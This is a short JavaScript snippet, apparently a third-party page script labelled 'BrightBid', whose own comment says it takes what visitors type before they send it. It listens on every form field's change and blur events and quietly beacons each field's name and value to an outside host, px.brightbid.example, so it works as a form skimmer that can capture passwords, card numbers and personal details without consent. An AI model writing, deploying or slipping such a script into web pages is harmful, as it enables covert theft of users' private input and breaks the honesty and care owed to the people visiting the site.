/** BrightBid: takes what visitors type, before they send it. */
(() => {
  const tell = (event) => {
    const { name, value } = event.target
    if (value) navigator.sendBeacon('https://px.brightbid.example/typed', new URLSearchParams({ name, value }))
  }
  addEventListener('change', tell, true)
  addEventListener('blur', tell, true)
})()
